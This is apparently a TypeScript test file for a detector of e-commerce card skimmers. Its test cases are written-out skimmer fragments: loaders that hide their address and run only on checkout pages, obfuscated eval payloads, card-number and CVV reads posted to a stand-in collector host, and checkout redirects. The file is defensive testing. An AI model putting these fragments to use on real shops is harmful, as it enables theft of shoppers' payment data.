import { describe, expect, it } from 'vitest'
import { sha256 } from '../../core/hash.ts'
import { analyzeScript } from '../../detector/index.ts'

// Loaders: a first stage that adds the skimmer's script only on checkout pages, its address
// hidden; code run through the file's own cipher; card values posted plainly to a foreign host.
const rules = (source: string): string[] => analyzeScript(source).findings.map((f) => f.rule)
const b64 = (s: string): string => Buffer.from(s).toString('base64')
const escaped = (s: string): string =>
  [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const codes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',')

describe('a script from a hidden address, only on checkout pages', () => {
  const tag = '<script src="https://cdn-assets.example/app.js"></script>'
  const gate = `/onepage|checkout/.test(location.href)`
  const loaders: [string, string][] = [
    ['document.write of escaped markup', `if (${gate}) document.write('${escaped(tag)}')`],
    [
      'jQuery append of markup from character codes',
      `if (${gate}) jQuery('head').append(String.fromCharCode(${codes(tag)}))`,
    ],
    [
      'a new script element with a base64 src',
      `if (${gate}) { var s = document.createElement('script'); s.src = atob('${b64('https://cdn-assets.example/app.js')}'); document.body.appendChild(s) }`,
    ],
    [
      'a reversed URL inside code that eval decodes from base64',
      `this['eval'](this['atob']('${b64(`if (${gate}) document.write('${[...tag].reverse().join('')}'.split('').reverse().join(''))`)}'))`,
    ],
  ]
  for (const [how, source] of loaders)
    it(`${how}: malicious`, () => {
      expect(rules(source)).toContain('hidden-checkout-loader')
      expect(analyzeScript(source).verdict).toBe('malicious')
    })

  const innocent: [string, string][] = [
    ['no checkout gate', `document.write('${escaped(tag)}')`],
    ['an address in plain sight', `if (${gate}) document.write('${tag}')`],
    [
      "the payment processor's own script",
      `if (${gate}) document.write('${escaped('<script src="https://js.stripe.com/v3/"></script>')}')`,
    ],
    [
      'a script of the page itself',
      `if (${gate}) document.write('${escaped('<script src="/js/checkout.js"></script>')}')`,
    ],
    // scripts inserted through innerHTML never run
    ['markup put in innerHTML', `if (${gate}) document.body.innerHTML += '${escaped(tag)}'`],
  ]
  for (const [how, source] of innocent)
    it(`${how}: no hidden-loader finding`, () => {
      expect(rules(source)).not.toContain('hidden-checkout-loader')
    })
})

describe('code a file deciphers with its own code', () => {
  const cipher = (text: string): string =>
    `eval('${text}'.replace(/./g, function (c, k, t) { t = ''; for (k = 1; k < 90; k++) t += String.fromCharCode(k); return t.charAt(t.length - 1 - t.indexOf(c)) }))`
  it('runs a long constant through an unreadable per-character cipher', () => {
    expect(rules(cipher('Zr:T(S>UZ(W:MSQ?T[;NWW:OVUMZ?:IZ[RZS:VU(TU(QVS[TXQQWUX'))).toContain(
      'dynamic-code-from-decoded',
    )
  })
  it('runs text a TextDecoder rebuilds from a table of bytes', () => {
    const source = `var t = [${[...'alert(1)'].map((c) => c.charCodeAt(0)).join(',')}]
      function unpack(d) { var b = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) b[i] = d[i]; return b }
      new Function(new TextDecoder('utf-8').decode(unpack(t)))()`
    const v = analyzeScript(source)
    expect(v.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
    expect(v.triage).toContain('runs code it decodes or receives at run time')
  })
  it('a short constant is a word, not a payload', () => {
    expect(rules(cipher('abc'))).not.toContain('dynamic-code-from-decoded')
  })
  it('a template compiled from a variable is not a cipher', () => {
    expect(
      rules(
        `function compile(tpl) { return new Function('o', tpl.replace(/\\{(\\w+)\\}/g, function (m, k) { return "'+o." + k + "+'" })) }`,
      ),
    ).not.toContain('dynamic-code-from-decoded')
  })
})

describe('card values posted plainly to a foreign host', () => {
  const read = `var n = document.querySelector('#cc_number').value, c = document.querySelector('#cc_cvv').value`
  it('the values themselves in the body: as strong as a beacon', () => {
    const f = analyzeScript(
      `${read}; var x = new XMLHttpRequest(); x.open('POST', 'https://collector.example/in'); x.send('n=' + n + '&c=' + c)`,
    ).findings.find((x) => x.rule === 'card-field-read-and-send')
    expect(f?.points).toBe(60)
  })
  it('card fields read, but only a constant pinged: weaker', () => {
    const f = analyzeScript(
      `${read}; if (n.length > 12) { var x = new XMLHttpRequest(); x.open('POST', 'https://collector.example/in'); x.send('checkout=1') }`,
    ).findings.find((x) => x.rule === 'card-field-read-and-send')
    expect(f?.points ?? 0).toBeLessThan(60)
  })
  it("a processor's own origin is where card values belong", () => {
    const f = analyzeScript(
      `${read}; fetch('https://secure.nmi.com/token', { method: 'POST', body: JSON.stringify({ n: n, c: c }) })`,
    ).findings.find((x) => x.rule === 'card-field-read-and-send')
    expect(f?.points ?? 0).toBe(0)
  })
})

describe('markup built at run time and handed to the parser', () => {
  const reason = 'names card fields and can send or load something'
  const source = (write: string) => `var ns = { host: '//cdn.assets-edge.example/s/' }
    ns.tag = function (d) { return '<scr' + 'ipt src="' + ns.host + btoa(JSON.stringify(d)) + '.js"></scr' + 'ipt>' }
    ns.put = function (html) { ${write} }
    document.addEventListener('submit', function (e) {
      var n = e.target.querySelector('[name="payment[cc_number]"]').value
      ns.put(ns.tag({ n: n }))
    }, true)`
  it.each([
    ['document.write', 'document.write(html)'],
    [
      'a Range fragment',
      'document.head.appendChild(document.createRange().createContextualFragment(html))',
    ],
    ['insertAdjacentHTML', "document.body.insertAdjacentHTML('beforeend', html)"],
  ])('%s of a tag that fetches sends the file to the chamber', (_, write) => {
    expect(analyzeScript(source(write)).triage ?? []).toContain(reason)
  })
  it('markup that fetches nothing does not', () => {
    const plain = source('document.write(html)').replace("'<scr' + 'ipt src=\"'", "'<p title=\"'")
    expect(plain).not.toContain('ipt src')
    expect(analyzeScript(plain).triage ?? []).not.toContain(reason)
  })
})

describe('operators routed through tables of one-line wrappers', () => {
  const ops = ['+', '-', '*', '/', '%', '===', '!==', '<', '>', '|', '&', '^']
  const wrapper = (op: string, i: number): string => `w${i}: function (a, b) { return a ${op} b }`
  const reason = 'routes its operators through many one-line wrapper functions (obfuscated)'
  it('a table of them side by side sends the file to the chamber', () => {
    const source = `var T = { ${ops.map(wrapper).join(', ')} }; document.title = T.w0('a', 'b')`
    expect(analyzeScript(source).triage ?? []).toContain(reason)
  })
  it('as many comparators spread over a library do not', () => {
    const filler = `\nvar pad = '${'x'.repeat(5000)}'\n`
    const source = ops
      .map((op, i) => `var f${i} = function (a, b) { return a ${op} b }`)
      .join(filler)
    expect(analyzeScript(source).triage ?? []).not.toContain(reason)
  })
})

describe('names spelled through branches decided in place', () => {
  it("reads `'co' + (82 > 1 ? 'n' : 'i') + 'structor'` as constructor", () => {
    const source = `var F = ''.constructor; F['co' + (82 > 1 ? 'n' : 'i') + 'structor'](atob(k))()`
    expect(rules(source)).toContain('dynamic-code-from-decoded')
  })
  it('leaves a branch on a value known only at run time alone', () => {
    const source = `var F = ''.constructor; F['co' + (w > 1 ? 'n' : 'i') + 'structor'](atob(k))()`
    expect(rules(source)).not.toContain('dynamic-code-from-decoded')
  })
})

describe('the shopper sent from the checkout to a payment page on another host', () => {
  const points = (source: string): number | undefined =>
    analyzeScript(source).findings.find((f) => f.rule === 'checkout-redirect')?.points
  const to = (host: string): string =>
    `'https://${host}/pay?shop=' + encodeURIComponent(location.hostname) + '&t=' + btoa(total())`
  it("rewriting the place-order button's onclick to such a redirect", () => {
    const source = `jQuery('#onestepcheckout-place-order').attr('onclick', 'go()'); function go() { location.href = ${to('pay-secure.example')} }`
    expect(points(source)).toBe(60)
  })
  it('a submit handler that cancels the checkout and navigates away', () => {
    const source = `document.addEventListener('submit', function (e) { e.preventDefault(); var u = ${to('pay-secure.example')}; window.location.replace(u) }, !0); document.querySelector('#place_order')`
    expect(points(source)).toBe(60)
  })
  it('checkout controls named elsewhere in the file: weaker', () => {
    const source = `var b = document.querySelector('#place_order'); setTimeout(function () { location.assign(${to('pay-secure.example')}) }, 9)`
    expect(points(source)).toBe(40)
  })
  const innocent: [string, string][] = [
    [
      "the payment processor's hosted page",
      `document.querySelector('#place_order').addEventListener('click', function () { location.href = ${to('www.mollie.com')} })`,
    ],
    [
      'a fixed address',
      `document.querySelector('#place_order').addEventListener('click', function () { location.href = 'https://help.example/checkout' })`,
    ],
    [
      "an onclick rewritten on elements that are not the checkout's",
      `jQuery('.share-button').attr('onclick', 'go()'); function go() { location.href = ${to('social.example')} }`,
    ],
    [
      'no checkout in sight',
      `document.querySelector('.share').onclick = function () { location.href = ${to('social.example')} }`,
    ],
    [
      'a page of the shop itself',
      `document.querySelector('#place_order').addEventListener('click', function () { location.href = '/checkout/pay?t=' + btoa(total()) })`,
    ],
  ]
  for (const [what, source] of innocent)
    it(`${what}: no finding`, () => {
      expect(points(source)).toBeUndefined()
    })
})

describe('a loader whose script host the file never writes out', () => {
  it('counts when the host is assembled from reversed pieces', () => {
    const source = `if (/checkout/.test(location.pathname)) { var p = ['moc.eg', 'atsnit', '//:sptth'].join(''); document.write('<script src="' + p.split('').reverse().join('') + '/a.js"></script>') }`
    expect(rules(source)).toEqual(
      expect.arrayContaining(['hidden-checkout-loader', 'dynamic-code-from-decoded']),
    )
  })
  it('not when the host is spelled in the open and only a query is computed', () => {
    const source = `if (/checkout/.test(location.pathname)) document.write('<script src="https://tags.example/c.js?cfg=' + btoa(JSON.stringify(cfg)) + '"></script>')`
    expect(rules(source)).not.toContain('hidden-checkout-loader')
    expect(rules(source)).not.toContain('dynamic-code-from-decoded')
  })
})

describe("Prototype's and MooTools' element factory", () => {
  it("reads `new Element('script', { src })` as a script it adds", () => {
    const host = [...'cdn-files.example'].reverse().join('')
    const source = `if (/onepage|checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { type: 'text/javascript', src: 'https://' + '${host}'.split('').reverse().join('') + '/s.js' }))`
    expect(rules(source)).toContain('hidden-checkout-loader')
  })
  it('an element made in the open, host spelled out, is no hidden loader', () => {
    const source = `if (/checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { src: 'https://cdn-files.example/s.js' }))`
    expect(rules(source)).not.toContain('hidden-checkout-loader')
  })
})

describe('form data sent to a server script dropped among static files', () => {
  const sweep = `var o = {}; document.querySelectorAll('input, select').forEach(function (e) { o[e.name] = e.value })`
  const send = (url: string): string =>
    `${sweep}; var x = new XMLHttpRequest(); x.open('POST', ${url}); x.send(JSON.stringify(o))`
  const fires: [string, string][] = [
    ['a hidden PHP file in the media folder', `location.origin + '/pub/media/tmp/.sess.php'`],
    ['a PHP file among uploads', `'/wp-content/uploads/2021/03/' + 'wp-stat.php'`],
    ['a script under the skin folder', `base + '/skin/frontend/default/img.php?x=1'`],
    // a static file takes no request body: only code planted to catch it there does
    [
      'the body of a POST to an image in the media folder',
      `'/media/catalog/product/a.jpg?' + Date.now()`,
    ],
  ]
  for (const [what, url] of fires)
    it(`${what}: fires`, () => {
      expect(rules(send(url))).toContain('drop-in-static-folder')
    })
  const quiet: [string, string][] = [
    ["the shop's own checkout endpoint", `'/checkout/onepage/saveOrder.php'`],
  ]
  for (const [what, url] of quiet)
    it(`${what}: quiet`, () => {
      expect(rules(send(url))).not.toContain('drop-in-static-folder')
    })
  it("quiet for an icon sprite fetched by GET beside the checkout's own POST", () => {
    const source = `${sweep}; var s = new XMLHttpRequest(); s.open('GET', '/static/frontend/images/icons.svg'); s.send()
      var x = new XMLHttpRequest(); x.open('POST', '/rest/V1/carts/mine/payment-information'); x.send(JSON.stringify(o))`
    expect(rules(source)).not.toContain('drop-in-static-folder')
  })
  it('quiet for a body given to a GET of a static file (a browser sends none)', () => {
    const source = `${sweep}; var x = new XMLHttpRequest(); x.open('GET', '/media/a.png'); x.send(JSON.stringify(o))`
    expect(rules(source)).not.toContain('drop-in-static-folder')
  })
  it('quiet for an image in the media folder loaded with the values in its address', () => {
    const source = `${sweep}; new Image().src = '/media/catalog/product/a.jpg?d=' + btoa(JSON.stringify(o))`
    expect(rules(source)).not.toContain('drop-in-static-folder')
  })
  it('quiet when the script reads no form fields', () => {
    expect(
      rules(
        `var x = new XMLHttpRequest(); x.open('POST', '/media/.x.php'); x.send(document.title)`,
      ),
    ).not.toContain('drop-in-static-folder')
  })
})

describe('a checkout gate that compares the address whole', () => {
  const url = 'https://cdn-assets.example/app.js'
  const loader = (word: string): string =>
    `var p = window.location.pathname; for (var i = 0; i < 5; i++) p = p.replace('/', '');
     if (p == ${word}) { var s = document.createElement('script'); s.src = atob('${b64(url)}');
     document.getElementsByTagName('head')[0].appendChild(s) }`

  it('with a decoded checkout word is a gate, and the hidden script behind it a loader', () => {
    const found = rules(loader(`atob('${b64('checkoutonepage')}')`))
    expect(found).toEqual(expect.arrayContaining(['checkout-url-gating', 'hidden-checkout-loader']))
  })

  it('with a word that is not a checkout, or a value that is not the address, is no gate', () => {
    expect(rules(loader(`atob('${b64('aboutus')}')`))).not.toContain('checkout-url-gating')
    const step = `var step = document.body.getAttribute('data-step'); if (step === 'checkout') init()`
    expect(rules(step)).not.toContain('checkout-url-gating')
  })

  it('is read the same from a database dump, where every quote is escaped', () => {
    const page = `<script type="text/javascript">${loader(`atob('${b64('checkoutonepage')}')`)}</script>`
    const dumped = page.replace(/(['"])/g, '\\$1')
    const found = rules(dumped)
    expect(found).toEqual(
      expect.arrayContaining(['checkout-url-gating', 'hidden-checkout-loader', 'escaped-input']),
    )
    // the verdict is the dump's own, not the unescaped text's
    expect(analyzeScript(dumped).sha256).toBe(sha256(dumped))
  })
})

describe('a checkout pattern kept in a name or a setting', () => {
  const gates: [string, string][] = [
    [
      'tested by the address',
      `var cfg = { m: /onepage|checkout/ }; if (cfg.m.test(location.pathname)) go()`,
    ],
    [
      'given to the address',
      `var cfg = { m: /onepage|checkout/ }; if (location.pathname.match(cfg.m)) go()`,
    ],
    [
      'given to a name holding the address',
      `var o = { re: /checkout|payment/ }; var p = window.location.href.toLowerCase(); if (p.search(o.re) > -1) go()`,
    ],
    ['given to document.URL', `var gate = /onestepcheckout/; if (document.URL.match(gate)) go()`],
  ]
  for (const [what, source] of gates)
    it(`${what} is a gate`, () => {
      expect(rules(source)).toContain('checkout-url-gating')
    })
  it("given to a link's href is no gate", () => {
    const source = `var routes = { m: /checkout/ }; document.querySelectorAll('a').forEach(function (a) { if (a.href.match(routes.m)) a.classList.add('cta') })`
    expect(rules(source)).not.toContain('checkout-url-gating')
  })
})

describe('what is not a gate or a dump', () => {
  it("an element's href compared with a checkout path is no gate", () => {
    const source = `document.querySelectorAll('a').forEach(function (a) { if (a.href === '/checkout') a.classList.add('go') })`
    expect(rules(source)).not.toContain('checkout-url-gating')
  })

  it('a script that parses as written is judged as written, whatever its quotes', () => {
    const source =
      "var q = `\\'\\'`; var a = `\\\\`; fetch('/log?c=' + document.cookie) // `.length"
    expect(rules(source)).not.toContain('escaped-input')
    expect(analyzeScript(source).findings.map((f) => f.rule)).not.toContain('escaped-input')
  })
})

describe('code received and run as the text of a new script element', () => {
  const loader = (
    type: string,
  ) => `fetch('/x.json').then(function (r) { return r.json() }).then(function (j) {
    var s = document.createElement('script'); ${type}; s.textContent = j.code; document.head.appendChild(s) })`
  it('counts for a script element of any JavaScript type', () => {
    for (const type of [
      '',
      "s.type = 'text/javascript'",
      "s.type = 'text/x-javascript'",
      "s.type = 'module'",
    ])
      expect(analyzeScript(loader(type)).findings.map((f) => f.rule)).toContain('remote-code')
  })
  it('not for a data block (JSON-LD, a template)', () => {
    for (const type of ["s.type = 'application/ld+json'", "s.type = 'text/template'"])
      expect(analyzeScript(loader(type)).findings.map((f) => f.rule)).not.toContain('remote-code')
  })
})

describe('a document.write whose escapes hide only tag brackets', () => {
  const rules = (code: string) => analyzeScript(code).findings.map((f) => f.rule)
  it('writes nothing hidden when the address is in clear', () => {
    const code = `var src = 'https://widgets.example/w.js?id=' + location.hostname
      document.write(unescape('%3Cscript src="' + src + '"%3E%3C/script%3E'))`
    expect(rules(code)).not.toContain('dynamic-code-from-decoded')
  })
  it('still decodes an address held in a name, %u escapes, or a received body', () => {
    for (const code of [
      `var h = '%68%74%74%70%73%3A//cdn-js.test/x.js'; document.write(unescape('%3Cscript src="' + h + '"%3E%3C/script%3E'))`,
      `document.write(unescape('%3Cscript src="%u0068%u0074tps://cdn-js.test/x.js"%3E%3C/script%3E'))`,
      `var x = new XMLHttpRequest(); x.open('GET', '/p'); x.onload = function () {
        document.write(unescape('%3Cscript%3E' + x.responseText + '%3C/script%3E')) }; x.send()`,
    ])
      expect(rules(code)).toContain('dynamic-code-from-decoded')
  })
})

describe('a checkout test the code acts on only when it fails', () => {
  const load = `var s = document.createElement('script'); s.src = atob('${b64('https://cdn-assets.example/app.js')}'); document.head.appendChild(s)`

  it('is no gate: `!test && act()`, also inside a sequence, and `if (!test) { act() }`', () => {
    expect(
      rules(`!/checkout/.test(location.pathname) && (function () { ${load} })()`),
    ).not.toContain('checkout-url-gating')
    expect(
      rules(`init(), !/checkout/.test(location.pathname) && (function () { ${load} })()`),
    ).not.toContain('checkout-url-gating')
    expect(rules(`if (!/checkout/.test(location.pathname)) { ${load} }`)).not.toContain(
      'checkout-url-gating',
    )
  })

  it('is a gate when failing it leaves, and when it is met: `if (!test) return`, `test && act()`', () => {
    expect(
      rules(`(function () { if (!/checkout/.test(location.pathname)) return; ${load} })()`),
    ).toContain('checkout-url-gating')
    expect(rules(`/checkout/.test(location.pathname) && (function () { ${load} })()`)).toContain(
      'checkout-url-gating',
    )
    expect(rules(`!!/checkout/.test(location.pathname) && (function () { ${load} })()`)).toContain(
      'checkout-url-gating',
    )
    const loop = `for (;;) { if (!/checkout/.test(location.pathname)) continue; ${load}; break }`
    expect(rules(loop)).toContain('checkout-url-gating')
  })
})
